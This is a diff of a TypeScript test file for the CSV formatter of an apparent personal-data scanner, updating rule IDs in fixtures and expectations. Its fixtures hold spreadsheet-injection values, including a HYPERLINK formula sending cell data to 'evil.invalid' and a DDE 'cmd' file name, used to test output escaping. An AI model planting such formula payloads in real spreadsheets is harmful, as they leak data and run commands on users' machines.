@@ -12,9 +12,9 @@ function rows(csv: string): string[][] {
 
 const base = { confidence: 'high' as const, fingerprint: 'sha256:00', line: 1, column: 1 };
 const findings: Finding[] = [
-  { ...base, ruleId: 'uk.nino', category: 'nino', severity: 'critical', file: 'bundle/asb-cases.csv', line: 7, column: 31, field: 'Case notes', masked: 'JM ** ** ** C', fingerprint: 'sha256:aa11' },
-  { ...base, ruleId: 'uk.phone', category: 'phone', severity: 'high', file: 'bundle/asb-cases.csv', line: 9, column: 4, field: 'Phone, "home"\r\nor mobile', masked: '+44 ** **** ***1', confidence: 'medium' },
-  { ...base, ruleId: 'field.person-name', category: 'sensitive-field', severity: 'high', file: 'bundle/x.csv', line: 1, column: 3, field: '=HYPERLINK("https://evil.invalid/?"&A1,"Click")', masked: '@SUM(A1:A9)' },
+  { ...base, ruleId: 'uk-identifiers.nino', category: 'nino', severity: 'critical', file: 'bundle/asb-cases.csv', line: 7, column: 31, field: 'Case notes', masked: 'JM ** ** ** C', fingerprint: 'sha256:aa11' },
+  { ...base, ruleId: 'uk-contact.phone', category: 'phone', severity: 'high', file: 'bundle/asb-cases.csv', line: 9, column: 4, field: 'Phone, "home"\r\nor mobile', masked: '+44 ** **** ***1', confidence: 'medium' },
+  { ...base, ruleId: 'field-names.person-name', category: 'sensitive-field', severity: 'high', file: 'bundle/x.csv', line: 1, column: 3, field: '=HYPERLINK("https://evil.invalid/?"&A1,"Click")', masked: '@SUM(A1:A9)' },
   { ...base, ruleId: 'email', category: 'email', severity: 'high', file: "=cmd|' /C calc'!A0.csv", line: 2, column: 1, field: '-2+3', masked: '\tja**@*******.**m' },
   { ...base, ruleId: 'ip', category: 'ip-address', severity: 'low', file: 'bundle.zip!/log.txt', line: 3, column: 8, field: '\rcr', masked: '***.*.*.**', confidence: 'low' },
 ];
@@ -38,7 +38,7 @@ describe('formatCsv', () => {
   });
 
   test('plain rows are unquoted and every record ends with CRLF', () => {
-    expect(csv.startsWith(`${HEADER.join(',')}\r\nbundle/asb-cases.csv,7,31,critical,nino,high,uk.nino,Case notes,JM ** ** ** C,sha256:aa11\r\n`)).toBe(true);
+    expect(csv.startsWith(`${HEADER.join(',')}\r\nbundle/asb-cases.csv,7,31,critical,nino,high,uk-identifiers.nino,Case notes,JM ** ** ** C,sha256:aa11\r\n`)).toBe(true);
     expect(csv.endsWith('\r\n')).toBe(true);
     // Outside quoted cells there is no bare LF or CR.
     const unquoted = csv.replace(/"(?:[^"]|"")*"/g, '');
